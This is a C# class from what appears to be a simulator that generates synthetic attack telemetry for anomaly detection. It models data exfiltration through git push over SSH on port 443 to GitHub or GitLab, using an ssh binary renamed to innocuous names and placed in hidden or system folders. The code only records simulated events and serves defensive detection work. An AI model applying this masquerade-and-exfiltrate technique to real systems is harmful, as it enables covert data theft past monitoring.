using Anomaly.Pipeline.Simulation.Ordinary;
using Anomaly.Pipeline.Simulation.World;

namespace Anomaly.Pipeline.Simulation.Attacks;

/// <summary>git over SSH on port 443 by a copy of ssh under another name.</summary>
internal sealed class SshOn443 : Attack
{
    public override string Kind => "ssh-443-renamed";

    public override string Description => "git over SSH on port 443 of an alternative host, by a renamed ssh";

    public override bool Fits(SimHost host) => host.Role is Role.Office or Role.Server or Role.Developer or Role.Jump;

    public override long Volume(Dice dice) => dice.LogUniform(500_000, 600e6);

    public override void Play(AttackScene scene)
    {
        var recorder = scene.Recorder;
        bool windows = scene.Host.Windows;
        string name = (scene.Choice % 3) switch { 0 => "svcupd", 1 => "rtkaudio", _ => "wcache" };
        string image = windows ? $@"C:\ProgramData\{name}.exe" : $"/var/tmp/.cache/{name}";
        var site = (scene.Choice / 3 % 3) switch { 0 => RepositorySites.GitLabSsh, _ => RepositorySites.GitHubSsh };
        foreach (long bytes in scene.Split(scene.Dice.Between(1, 3)))
        {
            scene.Pause(30);
            var push = recorder.Start(scene.Time, scene.Shell, Programs.Git(scene.Host), ["git", "-c", "core.sshCommand=" + (windows ? image.Replace('\\', '/') : image) + " -p 443", "push", "-q", "up", "HEAD"], folder: scene.Scratch);
            var ssh = recorder.Start(scene.Time + 120_000, push, image, [image, "-p", "443", "git@" + site.Name, $"git-receive-pack '{scene.Account}/{scene.Repository}.git'"], folder: scene.Scratch, originalName: "ssh.exe");
            scene.Time = recorder.Ssh(scene.Time + 200_000, ssh, site, 443, bytes, 2_100, GitCommands.Transfer(scene.Dice, bytes));
        }
    }
}
